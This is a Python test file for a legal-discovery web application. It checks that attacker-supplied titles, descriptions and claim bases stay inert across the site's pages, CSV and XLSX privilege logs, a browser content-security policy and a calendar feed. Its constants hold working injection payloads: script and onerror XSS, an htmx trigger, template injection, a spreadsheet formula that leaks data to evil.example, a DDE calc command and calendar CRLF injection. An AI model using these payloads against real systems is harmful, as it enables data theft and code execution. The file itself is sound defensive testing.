"""Strings the other side wrote, as an attacker would write them: a document's title and page
text, an item's description and a claim's basis holding markup, an inline script, htmx
attributes, a Jinja expression and spreadsheet formulas. Every page that shows them shows
them as text; the privilege log's CSV and XLSX hand them out as text, never as a formula a
spreadsheet runs; and the site's Content-Security-Policy, in a real browser, runs no inline
script even if one reached a page."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pymupdf
import pytest
from openpyxl import load_workbook

from clawback.service import Workspace
from tests.web import world
from tests.web.conftest import Client, Site, login, served

SCRIPT = "<script>alert('title')</script>"
IMG = '"><img src=x onerror=alert(2)>'
HTMX = '<a hx-get="/logout" hx-trigger="load">x</a>'
JINJA = "{{ 7*7 }}"
TITLE = f"Hostile {SCRIPT}{IMG}{HTMX}{JINJA}"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
BASIS = "+cmd|' /C calc'!A0 @SUM(1+1) -2+3"
HOSTILE = 5
FIRST = "AOL-DEF-00000041"
#: What must never reach a page unescaped: the markup's openings as a browser would parse them.
CHROMIUM_PATH = Path("/usr/bin/chromium")
RAW = ("<script>alert", "<img src=x", "<a hx-get=")


def _pdf() -> bytes:
    doc = pymupdf.open()
    page = doc.new_page()
    page.insert_text((72, 90), f"hostile {SCRIPT}", fontsize=9)
    page.insert_text((72, 110), f"{IMG} {HTMX}", fontsize=9)
    page.insert_text((72, 130), f"secretword {JINJA}", fontsize=9)
    data: bytes = doc.tobytes()
    doc.close()
    return data


def _add_hostile(root: Path) -> None:
    """To the web tests' case, an exhibit the producing side titled and described as an
    attacker would, named by an item and claimed."""
    workspace = Workspace.open(root)
    op = workspace.operator()
    op.ingest.ingest(_pdf(), title=TITLE, exhibit=HOSTILE)
    op.designations.designate(HOSTILE, "Confidential")
    op.productions.produce([HOSTILE], FIRST, "VOL5", world.DAY, allow_gap="numbered by exhibit")
    producing = workspace.person(world.PRODUCING)
    producing.items.define(HOSTILE, "h-1", FIRST, FORMULA, texts=["secretword"])
    producing.claims.claim(
        "c-hostile",
        privilege="law_enforcement",
        exhibits=[HOSTILE],
        items=["h-1"],
        basis=BASIS,
        on=world.DAY,
    )
    workspace.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    with served(tmp_path_factory, "hostile", then=_add_hostile) as found:
        yield found


@pytest.fixture(scope="module")
def seats(hostile: Site) -> dict[str, Client]:
    return {email: login(hostile, email) for email in world.SEATS}


PAGES = (
    "/",
    "/documents",
    f"/pages/{FIRST}",
    "/search?q=hostile",
    "/search?q=secretword",
    "/claims",
    "/claims/c-hostile",
    "/privilege-log",
    "/audit",
    "/docket",
    "/deadlines?m=2020-06",
    "/sealing",
    "/filing",
    "/productions",
)


@pytest.mark.parametrize("email", world.SEATS)
def test_no_page_carries_the_other_sides_markup(seats: dict[str, Client], email: str) -> None:
    for path in PAGES:
        body = seats[email].get(path).text
        assert not [raw for raw in RAW if raw in body], (email, path)


def test_the_producing_side_reads_the_markup_as_text(seats: dict[str, Client]) -> None:
    producing = seats[world.PRODUCING]
    listing = producing.get("/documents").text
    assert "&lt;script&gt;alert(&#39;title&#39;)&lt;/script&gt;" in listing
    assert JINJA in listing  # shown as typed, never evaluated
    found = producing.get("/search?q=secretword").text
    assert "secretword" in found and "hostile" in producing.get(f"/pages/{FIRST}").text


def _log(client: Client, fmt: str) -> bytes:
    answer = client.get(f"/privilege-log.{fmt}")
    assert answer.status_code == 200, answer.text
    return answer.content


@pytest.mark.parametrize("email", [world.PRODUCING, world.COUNSEL, world.CLERK])
def test_the_privilege_log_csv_holds_no_formula(seats: dict[str, Client], email: str) -> None:
    rows = list(csv.reader(io.StringIO(_log(seats[email], "csv").decode("utf-8"))))
    cells = [c for row in rows for c in row]
    assert any(FORMULA in c for c in cells) and any(BASIS in c for c in cells)
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


@pytest.mark.parametrize("email", [world.PRODUCING, world.COUNSEL, world.CLERK])
def test_the_privilege_log_xlsx_holds_no_formula(seats: dict[str, Client], email: str) -> None:
    sheet = load_workbook(io.BytesIO(_log(seats[email], "xlsx"))).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert FORMULA in [c.value for c in cells]  # the description as written, as text


@pytest.mark.skipif(not CHROMIUM_PATH.exists(), reason="BROWSER NOT TESTED: no chromium")
def test_the_policy_runs_no_inline_script_in_a_browser(hostile: Site) -> None:
    """The served policy, enforced by the browser (no bypass): a script element written into
    the page, and an inline event handler, never run; the violation is reported instead."""
    from playwright.sync_api import sync_playwright

    client = login(hostile, world.PRODUCING)
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM_PATH), args=["--no-sandbox"])
        context = browser.new_context()
        context.add_cookies(
            [{"name": k, "value": v, "url": hostile.url} for k, v in client.jar.items()]
        )
        page: Any = context.new_page()
        page.goto(f"{hostile.url}/documents")
        assert "Hostile <script>" in page.inner_text("body")  # the title, shown as text
        ran = page.evaluate(
            """() => new Promise(done => {
                 const seen = [];
                 document.addEventListener(
                   "securitypolicyviolation", e => seen.push(e.violatedDirective));
                 window.__ran = [];
                 const s = document.createElement("script");
                 s.textContent = "window.__ran.push('script')";
                 document.body.appendChild(s);
                 const d = document.createElement("div");
                 d.innerHTML =
                   '<img src="/static/none.png" onerror="window.__ran.push(\\'handler\\')">';
                 document.body.appendChild(d);
                 setTimeout(() => done({ran: window.__ran, seen}), 800);
               })"""
        )
        context.close()
        browser.close()
    assert ran["ran"] == []
    assert any(v.startswith("script-src") for v in ran["seen"]), ran


def test_the_calendar_feed_carries_no_line_the_other_side_wrote() -> None:
    """A deadline's words (a claim id, an order's act) end no line of the feed: a carriage
    return, a line feed or another control character is written as text (RFC 5545 3.3.11)."""
    from datetime import date

    from clawback.domain.deadlines import Deadline
    from clawback.service.exports import calendar

    act = "certify c-1\r\nATTENDEE:mailto:evil@example\rX-EVIL:1\nX-TOO:2\x0bend\x00"
    feed = calendar([Deadline(act, date(2020, 6, 8), date(2020, 6, 1), 5, "Dkt. 1\r")], "17-1")
    lines = feed.split("\r\n")
    assert lines[-1] == "" and all("\r" not in x and "\n" not in x for x in lines)
    assert not [x for x in lines if x.startswith(("ATTENDEE", "X-EVIL", "X-TOO"))]
    assert not [x for x in lines if any(ord(c) < 32 and c != "\t" for c in x)]
    unfolded = feed.replace("\r\n ", "")
    assert "ATTENDEE:mailto:evil@example" in unfolded  # the words kept, as text
